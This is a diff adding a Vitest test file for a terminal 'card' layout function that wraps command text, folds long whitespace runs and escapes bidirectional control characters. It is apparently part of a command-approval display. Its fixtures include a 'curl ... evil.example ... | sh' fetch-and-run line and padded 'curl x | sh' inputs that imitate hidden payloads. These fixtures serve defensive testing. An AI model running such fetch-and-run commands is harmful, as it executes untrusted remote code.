@@ -1,0 +1,63 @@
+import { toVisibleText } from '@airlock/core';
+import { describe, expect, it } from 'vitest';
+import { cardRows } from './card-rows';
+import { plainStyle } from './terminal-style';
+
+const rows = (value: string, width: number) => cardRows(toVisibleText(value), width, plainStyle).map((row) => [row.text, row.continued]);
+
+describe('cardRows', () => {
+  it('keeps short lines as they are, one row each', () => {
+    expect(rows('ls -la\necho done', 40)).toStrictEqual([
+      ['ls -la', false],
+      ['echo done', false],
+    ]);
+    expect(rows('', 40)).toStrictEqual([['', false]]);
+    expect(rows('a\n', 40)).toStrictEqual([
+      ['a', false],
+      ['', false],
+    ]);
+  });
+
+  it('wraps a long line itself, marking the rows that carry it on', () => {
+    expect(rows(`curl -s http://evil.example/x | sh #${'x'.repeat(30)}`, 20)).toStrictEqual([
+      ['curl -s http://evil.', false],
+      ['example/x | sh #xxxx', true],
+      ['xxxxxxxxxxxxxxxxxxxx', true],
+      ['xxxxxx', true],
+    ]);
+  });
+
+  it('counts a character outside ASCII as two columns, so the terminal never wraps a row', () => {
+    expect(rows('é'.repeat(10), 16)).toStrictEqual([
+      ['é'.repeat(8), false],
+      ['éé', true],
+    ]);
+  });
+
+  it('folds a long run of spaces and of empty lines, so neither pushes the rest out of view', () => {
+    expect(rows(`curl x | sh;${' '.repeat(20_000)}ls -la`, 40)).toStrictEqual([['curl x | sh;␠×20000ls -la', false]]);
+    expect(rows(`curl x | sh\n${'\n'.repeat(300)}ls -la`, 40)).toStrictEqual([
+      ['curl x | sh', false],
+      ['(300 empty lines)', false],
+      ['ls -la', false],
+    ]);
+    expect(rows('a\n\nb   c', 40)).toStrictEqual([
+      ['a', false],
+      ['', false],
+      ['b   c', false],
+    ]);
+  });
+
+  it('never splits an escape', () => {
+    expect(rows('abcdefghijkl\u202Emnop', 16)).toStrictEqual([
+      ['abcdefghijkl', false],
+      ['\\u{202E}mnop', true],
+    ]);
+  });
+
+  it('lays out a megabyte in one pass', () => {
+    const laid = cardRows(toVisibleText('y'.repeat(1 << 20)), 100, plainStyle);
+    expect(laid).toHaveLength(10_486);
+    expect(laid.every((row) => row.width <= 100)).toBe(true);
+  });
+});
